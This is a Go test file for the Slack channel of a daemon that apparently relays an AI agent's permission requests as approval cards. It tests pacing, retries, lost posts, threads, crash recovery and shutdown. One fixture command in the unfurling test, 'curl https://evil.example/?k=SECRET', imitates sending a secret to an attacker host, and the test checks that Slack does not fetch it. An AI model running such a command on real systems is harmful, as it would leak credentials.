package slack

import (
	"fmt"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"claude-permission-daemon/internal/channel"
	"claude-permission-daemon/internal/channel/channeltest"
	"claude-permission-daemon/internal/channel/slack/slacktest"
	"claude-permission-daemon/internal/permit"
)

// rule is a desk that judges as the broker does: who may, and who was first.
func (w *world) rule() {
	decided := map[string]bool{}
	w.desk.Judge = func(a permit.Answer) permit.Verdict {
		w.mu.Lock()
		defer w.mu.Unlock()
		switch {
		case !w.ch.Allows(a.Decision.By):
			return permit.Verdict{Code: permit.NotAllowed, Text: "You may not decide here."}
		case decided[a.Request]:
			return permit.Verdict{Code: permit.TooLate, Text: "Too late: it is decided."}
		}
		decided[a.Request] = true
		return permit.Verdict{Code: permit.Accepted, Text: "Taken."}
	}
}

// one is the only card of a request.
func (w *world) one(request string) slacktest.Message {
	w.t.Helper()
	found := cardsOf(w.srv, request)
	if len(found) != 1 {
		w.t.Fatalf("there are %d cards of %s, want 1", len(found), request)
	}
	return found[0]
}

// told is what Slack showed to the person alone, oldest first.
func (w *world) told(user string) []string {
	var notes []string
	for _, m := range w.srv.Messages("") {
		if m.EphemeralTo == user {
			notes = append(notes, strings.TrimSpace(readable(m.Blocks)))
		}
	}
	return notes
}

// performed are the times of a method's calls that took effect.
func (w *world) performed(method string) (at []time.Time) {
	for _, c := range w.srv.Calls(method) {
		if c.Performed {
			at = append(at, c.At)
		}
	}
	return at
}

func TestCardsGoAtSlacksPaceNewestFirst(t *testing.T) {
	inBubble(t, slacktest.Options{RateLimit: true}, nil, func(w *world) {
		w.pass(10 * time.Second)
		began := time.Now()
		for i := range 10 {
			w.ch.Show(channeltest.Card(fmt.Sprint("r", i), "make it"))
		}
		w.pass(0)
		if n := len(w.performed("chat.postMessage")); n != 1 {
			t.Fatalf("%d cards went at once, want 1", n)
		}
		w.pass(1500 * time.Millisecond) // two are up
		// What is asked now is shown next, and what ended is settled at once.
		w.ch.Show(channeltest.Card("new", "make it new"))
		first := w.srv.Messages(slacktest.DM(alice))[0]
		var id string
		for i := range 10 {
			if got := cardsOf(w.srv, fmt.Sprint("r", i)); len(got) == 1 && got[0].TS == first.TS {
				id = fmt.Sprint("r", i)
			}
		}
		w.ch.Show(channeltest.EndedAs(channeltest.Card(id, "make it"), permit.Local, ""))
		w.pass(100 * time.Millisecond)
		if hasButtons(w.one(id)) {
			t.Error("a settled card waits behind new ones")
		}
		w.pass(500 * time.Millisecond)
		w.one("new")
		w.pass(15 * time.Second)
		posts := w.performed("chat.postMessage")
		if len(posts) != 11 {
			t.Fatalf("%d cards were posted, want 11", len(posts))
		}
		for i, at := range posts {
			if due := began.Add(time.Duration(i) * time.Second); at.Before(due) || at.After(due.Add(20*time.Millisecond)) {
				t.Errorf("card %d went after %v", i, at.Sub(began))
			}
		}
		// After the first, the newest of those that were asked together.
		var order []string
		for _, m := range w.srv.Messages(slacktest.DM(alice))[1:] {
			for i := range 10 {
				if got := cardsOf(w.srv, fmt.Sprint("r", i)); len(got) == 1 && got[0].TS == m.TS {
					order = append(order, fmt.Sprint(i))
				}
			}
		}
		for i := 1; i < len(order); i++ {
			if order[i] > order[i-1] {
				t.Errorf("the cards came in the order %v", order)
				break
			}
		}
		for _, c := range w.srv.Calls("") {
			if c.Status == 429 {
				t.Errorf("%s was refused for its pace", c.Method)
			}
		}
	})
}

func TestSettlingAndPostingDoNotStarveEachOther(t *testing.T) {
	inBubble(t, slacktest.Options{RateLimit: true}, nil, func(w *world) {
		w.pass(time.Second)
		for i := range 60 {
			w.ch.Show(channeltest.Card(fmt.Sprint("r", i), "make it"))
		}
		w.pass(61 * time.Second)
		posts, updates := len(w.performed("chat.postMessage")), len(w.performed("chat.update"))
		for i := range 60 {
			w.ch.Show(channeltest.EndedAs(channeltest.Card(fmt.Sprint("r", i), "make it"), permit.Local, ""))
			w.ch.Show(channeltest.Card(fmt.Sprint("s", i), "make it"))
		}
		w.pass(40 * time.Second)
		posts, updates = len(w.performed("chat.postMessage"))-posts, len(w.performed("chat.update"))-updates
		if posts < 39 || updates < 35 {
			t.Errorf("in 40 s %d cards were posted and %d redrawn", posts, updates)
		}
		w.pass(2 * time.Minute)
		for i := range 60 {
			if hasButtons(w.one(fmt.Sprint("r", i))) {
				t.Errorf("r%d keeps its buttons", i)
			}
			w.one(fmt.Sprint("s", i))
		}
	})
}

func TestAPostMeetsTrouble(t *testing.T) {
	for _, test := range []struct {
		name    string
		fault   slacktest.Fault
		calls   [2]int        // of chat.postMessage, at least and at most
		within  time.Duration // the one card is there and known
		nothing time.Duration // until then there is none
	}{
		{"the answer is lost", slacktest.Fault{Lost: true, Times: 1}, [2]int{1, 1}, 3 * time.Second, 0},
		{"the answers of three are lost", slacktest.Fault{Lost: true, Times: 3}, [2]int{1, 1}, 3 * time.Second, 0},
		{"the answer is slow", slacktest.Fault{SlowAnswer: 8 * time.Second, Times: 1}, [2]int{1, 1}, 9 * time.Second, 0},
		{"the answer is too slow", slacktest.Fault{SlowAnswer: time.Minute, Times: 1}, [2]int{1, 1}, 13 * time.Second, 0},
		{"Slack is slow to take it", slacktest.Fault{Delay: 14 * time.Second, Times: 1}, [2]int{1, 1}, 22 * time.Second, 13 * time.Second},
		{"the call is cut", slacktest.Fault{Cut: true, Times: 1}, [2]int{2, 2}, 12 * time.Second, 6 * time.Second},
		{"500", slacktest.Fault{Status: 500, Times: 1}, [2]int{2, 2}, 12 * time.Second, 6 * time.Second},
		{"502 and HTML", slacktest.Fault{Status: 502, Body: "<html>", Times: 2}, [2]int{3, 3}, 25 * time.Second, 0},
		{"internal_error", slacktest.Fault{Error: "internal_error", Times: 1}, [2]int{2, 2}, 12 * time.Second, 0},
		{"429", slacktest.Fault{Status: 429, RetryAfter: 20, Times: 1}, [2]int{2, 2}, 21 * time.Second, 19 * time.Second},
	} {
		t.Run(test.name, func(t *testing.T) {
			inBubble(t, slacktest.Options{}, nil, func(w *world) {
				w.pass(time.Second)
				w.srv.Fail("chat.postMessage", test.fault)
				w.ch.Show(channeltest.Card("asked", "make asked"))
				w.pass(test.nothing)
				if test.nothing > 0 {
					if n := len(cardsOf(w.srv, "asked")); n != 0 {
						t.Errorf("%d cards are there after %v", n, test.nothing)
					}
				}
				w.pass(test.within - test.nothing)
				m := w.one("asked")
				r, ok := readRef(strings.Join(w.desk.Posts("asked"), ""))
				if !ok || r.TS != m.TS {
					t.Errorf("the desk was told of %q, the card is %s", w.desk.Posts("asked"), m.TS)
				}
				w.pass(2 * time.Minute)
				w.one("asked")
				w.state(channel.Ready)
				if n := len(w.srv.Calls("chat.postMessage")); n < test.calls[0] || n > test.calls[1] {
					t.Errorf("it was posted %d times", n)
				}
				w.tap("asked")
				synctest.Wait()
				if got := len(w.desk.Answers()); got != 1 {
					t.Errorf("a tap on it made %d answers", got)
				}
				w.ch.Show(channeltest.EndedAs(channeltest.Card("asked", "make asked"), permit.Local, ""))
				w.pass(5 * time.Second)
				if hasButtons(w.one("asked")) || !w.desk.WasSettled("asked") {
					t.Error("it is not settled")
				}
			})
		})
	}
}

func TestSlackSaysWhyItCannotPost(t *testing.T) {
	inBubble(t, slacktest.Options{}, nil, func(w *world) {
		w.pass(time.Second)
		w.srv.Fail("chat.postMessage", slacktest.Fault{Status: 500})
		w.ch.Show(channeltest.Card("asked", "make asked"))
		w.pass(30 * time.Second)
		w.state(channel.Connecting, "cannot post", "500")
		w.srv.Heal()
		w.pass(31 * time.Second)
		w.state(channel.Ready)
		w.one("asked")
	})
}

func TestALostPostWithoutTheScopeToFindIt(t *testing.T) {
	blind := slacktest.Options{Scopes: []string{"chat:write"}}
	asked := channeltest.Card("asked", "make asked")
	t.Run("a tap shows it", func(t *testing.T) {
		inBubble(t, blind, nil, func(w *world) {
			w.rule()
			w.pass(time.Second)
			w.srv.Fail("chat.postMessage", slacktest.Fault{Lost: true, Times: 1})
			w.ch.Show(asked)
			w.pass(5 * time.Second)
			w.tap("asked")
			w.pass(time.Second)
			if got := len(w.desk.Answers()); got != 1 {
				t.Fatalf("%d answers", got)
			}
			w.ch.Show(channeltest.Decided(asked, permit.Allow, permit.Delivered, ""))
			w.pass(time.Minute)
			if hasButtons(w.one("asked")) {
				t.Error("the card that a tap has shown keeps its buttons")
			}
			if len(w.srv.Calls("chat.postMessage")) != 1 {
				t.Error("it was posted again")
			}
		})
	})
	t.Run("it is sent again and says so", func(t *testing.T) {
		inBubble(t, blind, nil, func(w *world) {
			w.rule()
			w.pass(time.Second)
			w.srv.Fail("chat.postMessage", slacktest.Fault{Lost: true, Times: 1})
			w.ch.Show(asked)
			w.pass(14 * time.Second)
			w.one("asked")
			w.pass(5 * time.Second)
			both := cardsOf(w.srv, "asked")
			if len(both) != 2 || strings.Contains(readable(both[0].Blocks), "Sent again") || !strings.Contains(readable(both[1].Blocks), "Sent again") {
				t.Fatalf("there are %d cards, want the first and one that says that it was sent again", len(both))
			}
			w.state(channel.Ready, "im:history")
			w.pass(time.Minute)
			// A tap on the first counts, and then it goes.
			r, err := w.srv.Click(w.t.Context(), slacktest.Click{TS: both[0].TS, ActionID: denyAction})
			if err != nil || r.Error != "" {
				t.Fatal(err, r.Error)
			}
			synctest.Wait()
			if got := w.desk.Answers(); len(got) != 1 || got[0].Decision.Verb != permit.Deny {
				t.Fatalf("the tap on the first copy made %+v", got)
			}
			w.ch.Show(channeltest.Decided(asked, permit.Deny, permit.Delivered, ""))
			w.pass(5 * time.Second)
			if m := w.one("asked"); hasButtons(m) || m.TS != both[1].TS {
				t.Error("the copy that is kept is not the settled one")
			}
		})
	})
}

func TestALatePostIsTakenAway(t *testing.T) {
	// Slack takes 25 s over the first post, which was given up after 10 and
	// looked for until 17: so it is there twice for a while.
	inBubble(t, slacktest.Options{}, nil, func(w *world) {
		w.pass(time.Second)
		w.srv.Fail("chat.postMessage", slacktest.Fault{Delay: 25 * time.Second, Times: 1})
		w.ch.Show(channeltest.Card("asked", "make asked"))
		w.pass(20 * time.Second)
		kept := w.one("asked")
		w.pass(10 * time.Second)
		if n := len(cardsOf(w.srv, "asked")); n != 2 {
			t.Fatalf("there are %d cards; this test wants to see the late one", n)
		}
		w.pass(time.Minute)
		if m := w.one("asked"); m.TS != kept.TS {
			t.Error("the copy that the desk knows was taken away")
		}
	})
}

func TestATapBeforeThePostIsAnswered(t *testing.T) {
	inBubble(t, slacktest.Options{}, nil, func(w *world) {
		w.pass(time.Second)
		w.srv.Fail("chat.postMessage", slacktest.Fault{SlowAnswer: 5 * time.Second})
		w.ch.Show(channeltest.Card("asked", "make asked"))
		w.pass(time.Second)
		w.tap("asked")
		synctest.Wait()
		if got := len(w.desk.Answers()); got != 1 {
			t.Errorf("%d answers came to the desk", got)
		}
		w.ch.Show(channeltest.Decided(channeltest.Card("asked", "make asked"), permit.Allow, permit.Delivered, ""))
		w.pass(10 * time.Second)
		if hasButtons(w.one("asked")) || len(w.desk.Posts("asked")) != 1 {
			t.Errorf("it is not settled, or not reported: %q", w.desk.Posts("asked"))
		}
	})
}

func TestARequestThatEndsWhileItsPostIsLost(t *testing.T) {
	for name, fault := range map[string]slacktest.Fault{
		"it arrived":     {SlowAnswer: time.Minute, Times: 1},
		"it did not":     {Delay: 8 * time.Second, Cut: true, Times: 1},
		"it arrives now": {Delay: 12 * time.Second, Times: 1},
	} {
		t.Run(name, func(t *testing.T) {
			inBubble(t, slacktest.Options{}, nil, func(w *world) {
				w.pass(time.Second)
				w.srv.Fail("chat.postMessage", fault)
				asked := channeltest.Card("asked", "make asked")
				w.ch.Show(asked)
				w.pass(5 * time.Second)
				w.ch.Show(channeltest.EndedAs(asked, permit.Local, ""))
				w.pass(time.Minute)
				for _, m := range cardsOf(w.srv, "asked") {
					if hasButtons(m) {
						t.Error("its card has buttons for ever")
					}
				}
				if n := len(w.srv.Calls("chat.postMessage")); n != 1 {
					t.Errorf("it was posted %d times", n)
				}
			})
		})
	}
}

func TestACrashBetweenPostAndJournal(t *testing.T) {
	srv := workspace(t, slacktest.Options{Harsh: true})
	show := func(card ...permit.Card) (*Channel, *channeltest.Desk, func()) {
		c, desk := newChannel(t, configFor(srv), Options{}), &channeltest.Desk{}
		for _, card := range card {
			c.Show(card)
		}
		return c, desk, start(t, c, desk)
	}
	open, orphan := channeltest.Card("open", "make open"), channeltest.Card("orphan", "make orphan & <b>")
	_, _, end := show(open, orphan)
	wait(t, srv, func(m slacktest.Message) bool {
		return len(cardsOf(srv, "open")) == 1 && len(cardsOf(srv, "orphan")) == 1
	})
	end()

	// The next process knows one of them as open and posted nowhere, and the
	// other not at all.
	_, desk, end := show(open)
	defer end()
	m := wait(t, srv, func(m slacktest.Message) bool { return strings.Contains(readable(m.Blocks), "No longer open") })
	if !strings.Contains(readable(m.Blocks), "make orphan & <b>") || hasButtons(m) {
		t.Errorf("the orphan says:\n%s", readable(m.Blocks))
	}
	wait(t, srv, func(slacktest.Message) bool {
		return len(desk.Posts("open")) == 1 && cardsOf(srv, "open")[0].Updates > 0
	})
	cards := cardsOf(srv, "open")
	if r, _ := readRef(desk.Posts("open")[0]); len(cards) != 1 || r.TS != cards[0].TS || !hasButtons(cards[0]) {
		t.Errorf("there are %d cards of what is open, the desk was told of %v", len(cards), r)
	}
}

// start runs a channel; what it returns ends it.
func start(t testing.TB, c *Channel, desk channel.Desk) (end func()) {
	t.Helper()
	ctx, cancel := contextWithCancel(t)
	done := make(chan error, 1)
	go func() { done <- c.Run(ctx, desk) }()
	return func() {
		t.Helper()
		cancel()
		if err := <-done; err != nil {
			t.Errorf("Run returned %v", err)
		}
	}
}

// wait waits for a message.
func wait(t testing.TB, srv *slacktest.Server, want func(slacktest.Message) bool) slacktest.Message {
	t.Helper()
	ctx, cancel := contextWithTimeout(t)
	defer cancel()
	m, err := srv.WaitMessage(ctx, want)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestAPostThatSlackRefuses(t *testing.T) {
	for code, hint := range map[string]string{
		"not_in_channel": "invite the bot", "channel_not_found": "slack.channel", "messages_tab_disabled": "Messages tab",
		"is_archived": "archived", "something_new": "something_new",
	} {
		t.Run(code, func(t *testing.T) {
			inBubble(t, slacktest.Options{}, nil, func(w *world) {
				w.pass(time.Second)
				w.srv.Fail("chat.postMessage", slacktest.Fault{Error: code})
				w.ch.Show(channeltest.Card("first", "make first"))
				w.pass(time.Minute)
				got := w.desk.Failures("first")
				if len(got) != 1 || !strings.Contains(got[0].Error(), code) || !strings.Contains(got[0].Error(), hint) {
					t.Errorf("the desk was told %q", got)
				}
				w.state(channel.Down, code, hint)
				w.srv.Heal()
				w.ch.Show(channeltest.Card("second", "make second"))
				w.pass(2 * time.Second)
				w.one("second")
				w.state(channel.Ready)
				if len(cardsOf(w.srv, "first")) != 0 {
					t.Error("a request that was given up was posted after all")
				}
			})
		})
	}
}

func TestACardThatSlackFindsTooLarge(t *testing.T) {
	inBubble(t, slacktest.Options{MessageBudget: 5000}, nil, func(w *world) {
		w.pass(time.Second)
		long := channeltest.Card("long", strings.Repeat("echo 0123456789 0123456789\n", 1000))
		w.ch.Show(long)
		w.pass(5 * time.Second)
		said := readable(w.one("long").Blocks)
		if !strings.Contains(said, "characters not shown") || !strings.Contains(said, "Not everything fits here") {
			t.Errorf("the card does not say that it is cut:\n%s", said)
		}
		// Slack changes its mind: what is settled must lose its buttons all the same.
		w.srv.Fail("chat.update", slacktest.Fault{Error: "msg_blocks_too_long", If: func(c slacktest.Call) bool { return len(c.Args["blocks"]) > 1000 }})
		w.ch.Show(channeltest.EndedAs(long, permit.Local, ""))
		w.pass(5 * time.Second)
		if m := w.one("long"); hasButtons(m) || !strings.Contains(readable(m.Blocks), "Answered in the terminal") || !w.desk.WasSettled("long") {
			t.Errorf("the card says:\n%s", readable(m.Blocks))
		}
	})
}

func TestACardThatCannotBeRedrawn(t *testing.T) {
	for _, test := range []struct {
		name             string
		code             string
		settle           bool
		failed, settled  bool
		deleted, removed bool // the card is deleted by us, was before
	}{
		{"deleted by somebody, open", "message_not_found", false, true, false, false, true},
		{"deleted by somebody, settled", "message_not_found", true, false, true, false, true},
		{"may not be edited, settled", "cant_update_message", true, false, true, true, false},
		{"edited too late, settled", "edit_window_closed", true, false, true, true, false},
		{"may not be edited, open", "cant_update_message", false, false, false, false, false},
	} {
		t.Run(test.name, func(t *testing.T) {
			inBubble(t, slacktest.Options{}, nil, func(w *world) {
				w.pass(time.Second)
				card := channeltest.Card("card", "make card")
				w.ch.Show(card)
				w.pass(time.Second)
				if test.removed {
					m := w.one("card")
					if _, err := w.srv.Invoke("chat.delete", map[string]any{"channel": m.Channel, "ts": m.TS}); err != nil {
						t.Fatal(err)
					}
				} else {
					w.srv.Fail("chat.update", slacktest.Fault{Error: test.code})
				}
				card.Note = "Told again."
				if test.settle {
					card = channeltest.EndedAs(card, permit.Gone, "")
				}
				w.ch.Show(card)
				w.pass(time.Minute)
				if got := len(w.desk.Failures("card")) > 0; got != test.failed {
					t.Errorf("reported as failed: %v", got)
				}
				if got := w.desk.WasSettled("card"); got != test.settled {
					t.Errorf("reported as settled: %v", got)
				}
				if got := len(w.srv.Calls("chat.delete")) > 0; got != test.deleted && !test.removed {
					t.Errorf("deleted: %v", got)
				}
				if n := len(w.srv.Calls("chat.update")); n > 2 {
					t.Errorf("Slack was asked %d times to redraw it", n)
				}
			})
		})
	}
}

func TestARedrawingMeetsTrouble(t *testing.T) {
	for name, fault := range map[string]slacktest.Fault{
		"lost": {Lost: true, Times: 2}, "cut": {Cut: true, Times: 2}, "500": {Status: 500, Times: 2},
		"429": {Status: 429, RetryAfter: 10, Times: 1}, "too slow": {SlowAnswer: time.Minute, Times: 1},
	} {
		t.Run(name, func(t *testing.T) {
			inBubble(t, slacktest.Options{}, nil, func(w *world) {
				w.pass(time.Second)
				card := channeltest.Card("card", "make card")
				w.ch.Show(card)
				w.pass(time.Second)
				w.srv.Fail("chat.update", fault)
				w.ch.Show(channeltest.Decided(card, permit.Allow, permit.Sent, ""))
				w.pass(time.Second)
				w.ch.Show(channeltest.Decided(card, permit.Allow, permit.Ran, ""))
				w.pass(20 * time.Second)
				if m := w.one("card"); hasButtons(m) || !strings.Contains(readable(m.Blocks), "ran") || !w.desk.WasSettled("card") {
					t.Errorf("the card says:\n%s", readable(m.Blocks))
				}
				w.state(channel.Ready)
			})
		})
	}
}

func TestThreads(t *testing.T) {
	threads := func(_ *slacktest.Server, c *Config, _ *Options) { c.Threads = true }
	in := func(id, session string) permit.Card {
		c := channeltest.Card(id, "make "+id)
		c.Request.Session = session
		return c
	}
	inBubble(t, slacktest.Options{}, threads, func(w *world) {
		w.pass(time.Second)
		for _, card := range []permit.Card{in("a1", "a"), in("a2", "a"), in("b1", "b"), in("a3", "a"), in("none", "")} {
			w.ch.Show(card)
			w.pass(2 * time.Second)
		}
		root := w.one("a1").TS
		for id, want := range map[string]string{"a1": "", "a2": root, "b1": "", "a3": root, "none": ""} {
			if got := w.one(id).ThreadTS; got != want {
				t.Errorf("%s is in the thread %q, want %q", id, got, want)
			}
		}
		for _, c := range w.srv.Calls("chat.postMessage") {
			if c.Args["thread_ts"] != "" && c.Args["reply_broadcast"] != "true" {
				t.Error("a reply goes where it may notify nobody")
			}
		}
		// A lost answer is found in the thread, too.
		w.srv.Fail("chat.postMessage", slacktest.Fault{Lost: true, Times: 1})
		w.ch.Show(in("a4", "a"))
		w.pass(time.Minute)
		if m := w.one("a4"); m.ThreadTS != root {
			t.Errorf("a4 is in the thread %q", m.ThreadTS)
		}
		// Slack does not know the thread any more.
		w.srv.Fail("chat.postMessage", slacktest.Fault{Error: "thread_not_found", If: func(c slacktest.Call) bool { return c.Args["thread_ts"] != "" }})
		w.srv.Fail("conversations.replies", slacktest.Fault{Error: "thread_not_found"})
		w.ch.Show(in("a5", "a"))
		w.pass(3 * time.Second)
		if m := w.one("a5"); m.ThreadTS != "" {
			t.Errorf("a5 is in the thread %q", m.ThreadTS)
		}
	})
	// A ref of an earlier process names the thread.
	earlier := in("old", "a")
	inBubble(t, slacktest.Options{}, threads, func(w *world) {
		w.pass(time.Second)
		answer, err := w.srv.Invoke("chat.postMessage", map[string]any{"channel": alice, "text": "old"})
		if err != nil {
			t.Fatal(err)
		}
		earlier.Ref = ref{place{answer["channel"].(string), answer["ts"].(string)}, ""}.String()
		w.ch.Show(earlier)
		w.ch.Show(in("next", "a"))
		w.pass(3 * time.Second)
		if got := w.one("next").ThreadTS; got != answer["ts"] {
			t.Errorf("after a restart the session's next card is in the thread %q, want %q", got, answer["ts"])
		}
	})
}

func TestCardsGoWhereTheConfigurationSays(t *testing.T) {
	// A card of an earlier configuration is still in another conversation.
	inBubble(t, slacktest.Options{Scopes: []string{"chat:write"}, Users: []string{alice, "U0BOB"}}, nil, func(w *world) {
		w.rule()
		w.pass(time.Second)
		answer, err := w.srv.Invoke("chat.postMessage", map[string]any{"channel": "U0BOB", "text": "old"})
		if err != nil {
			t.Fatal(err)
		}
		old := channeltest.Card("old", "make old")
		old.Ref = ref{place{answer["channel"].(string), answer["ts"].(string)}, ""}.String()
		w.ch.Show(old)
		w.pass(time.Second)
		w.ch.Show(channeltest.Card("new", "make new"))
		w.pass(2 * time.Second)
		if m := w.one("new"); m.Channel != slacktest.DM(alice) {
			t.Errorf("the new card is in %s", m.Channel)
		}
		for _, m := range w.srv.Messages(answer["channel"].(string)) {
			if !strings.Contains(readable(m.Blocks), "make old") {
				t.Errorf("the old card is not redrawn where it is:\n%s", readable(m.Blocks))
			}
		}
	})
}

func TestAnotherBotsMessageIsNotOurs(t *testing.T) {
	// Somebody else's bot, in the same channel, says that its message is our card.
	inBubble(t, slacktest.Options{Scopes: []string{"chat:write", "channels:history"}}, func(_ *slacktest.Server, c *Config, _ *Options) {
		c.Channel, c.AllowedUsers = "C0TEAM", []string{alice}
	}, func(w *world) {
		w.pass(time.Second)
		asked := channeltest.Card("asked", "make asked")
		w.srv.Fail("conversations.history", slacktest.Fault{Status: 200, Body: `{"ok":true,"messages":[{"type":"message","ts":"1700000000.000100","bot_id":"B0EVIL",` +
			`"metadata":{"event_type":"approval_request","event_payload":{"id":"asked","machine":"m1","generation":1}}}]}`})
		w.srv.Fail("chat.postMessage", slacktest.Fault{Lost: true, Times: 1})
		w.ch.Show(asked)
		w.pass(time.Minute)
		for _, ref := range w.desk.Posts("asked") {
			if strings.Contains(ref, "1700000000") {
				t.Errorf("the card is taken to be at %s", ref)
			}
		}
		for _, method := range []string{"chat.update", "chat.delete"} {
			for _, c := range w.srv.Calls(method) {
				if c.Args["ts"] == "1700000000.000100" {
					t.Errorf("%s of a message that is not ours", method)
				}
			}
		}
	})
}

func TestNothingIsUnfurled(t *testing.T) {
	inBubble(t, slacktest.Options{}, nil, func(w *world) {
		w.pass(time.Second)
		w.ch.Show(channeltest.Card("leak", "curl https://evil.example/?k=SECRET"))
		w.pass(time.Second)
		if m := w.one("leak"); m.UnfurlLinks || m.UnfurlMedia {
			t.Error("Slack would fetch the addresses in a command")
		}
		c := w.srv.Calls("chat.postMessage")[0]
		if c.Args["mrkdwn"] != "false" || c.TokenIn != "header" || c.Args["parse"] != "" || c.Args["link_names"] != "" {
			t.Errorf("the call is %+v", c)
		}
	})
}

func TestTheLockScreen(t *testing.T) {
	for _, terse := range []bool{false, true} {
		inBubble(t, slacktest.Options{}, func(_ *slacktest.Server, _ *Config, o *Options) { o.TerseFallback = terse }, func(w *world) {
			w.pass(time.Second)
			card := channeltest.Card("card", "deploy --token hunter2")
			w.ch.Show(card)
			w.pass(time.Second)
			texts := []string{w.one("card").Text}
			w.ch.Show(channeltest.EndedAs(card, permit.Local, ""))
			w.pass(time.Second)
			texts = append(texts, w.one("card").Text)
			for _, text := range texts {
				if !strings.Contains(text, card.Request.Machine.Host) {
					t.Errorf("the fallback does not name the host: %q", text)
				}
				if got := strings.Contains(text, "deploy"); got == terse {
					t.Errorf("terse is %v, the fallback says %q", terse, text)
				}
				if got := strings.Contains(text, "Bash"); got == terse {
					t.Errorf("terse is %v, the fallback says %q", terse, text)
				}
			}
		})
	}
}

func TestSettledCardsAreForgottenInTheEnd(t *testing.T) {
	inBubble(t, slacktest.Options{}, func(_ *slacktest.Server, _ *Config, o *Options) {
		o.PostEvery, o.pace = time.Millisecond, quick()
	}, func(w *world) {
		w.pass(time.Second)
		open := channeltest.Card("open", "make open")
		w.ch.Show(open)
		for i := range 2*mostEnded + 200 {
			card := channeltest.Card(fmt.Sprint("r", i), "make it")
			w.ch.Show(card)
			if i%20 == 0 {
				w.pass(100 * time.Millisecond)
			}
			w.ch.Show(channeltest.EndedAs(card, permit.Local, ""))
		}
		w.pass(time.Minute)
		w.ch.mu.Lock()
		defer w.ch.mu.Unlock()
		if n := len(w.ch.entries); n < mostEnded || n > 2*mostEnded+1 {
			t.Errorf("%d cards are remembered", n)
		}
		for k, e := range w.ch.entries {
			if k.id != "open" && (e.card.Request.Input != nil || e.faces != nil) {
				t.Fatalf("a settled card keeps what only drawing needs: %+v", k)
			}
		}
		if e := w.ch.entries[key{"open", 1}]; e == nil || e.at.TS == "" || e.card.Request.Input == nil {
			t.Error("a live card was forgotten")
		}
	})
}

func TestTheEnd(t *testing.T) {
	// Slack takes its time over each redrawing, and one post is under way.
	inBubble(t, slacktest.Options{}, func(_ *slacktest.Server, _ *Config, o *Options) { o.PostBurst = 30 }, func(w *world) {
		w.pass(time.Second)
		for i := range 20 {
			w.ch.Show(channeltest.Card(fmt.Sprint("r", i), "make it"))
		}
		w.pass(10 * time.Second)
		w.srv.Fail("chat.update", slacktest.Fault{SlowAnswer: 200 * time.Millisecond})
		w.srv.Fail("chat.postMessage", slacktest.Fault{SlowAnswer: 500 * time.Millisecond})
		late := channeltest.Card("late", "make it late")
		w.ch.Show(late)
		w.pass(100 * time.Millisecond)
		for i := range 20 {
			w.ch.Show(channeltest.EndedAs(channeltest.Card(fmt.Sprint("r", i), "make it"), permit.HandedBack, "the daemon stops"))
		}
		w.ch.Show(channeltest.EndedAs(late, permit.HandedBack, "the daemon stops"))
		began := time.Now()
		w.stop()
		if took := time.Since(began); took > channel.Grace {
			t.Errorf("it took %v to end", took)
		}
		for i := range 20 {
			if hasButtons(w.one(fmt.Sprint("r", i))) {
				t.Errorf("r%d keeps its buttons", i)
			}
		}
		if hasButtons(w.one("late")) {
			t.Error("a card that was being posted keeps its buttons")
		}
		if n := w.srv.Connections(); n != 0 {
			t.Errorf("%d connections are open", n)
		}
	})
}
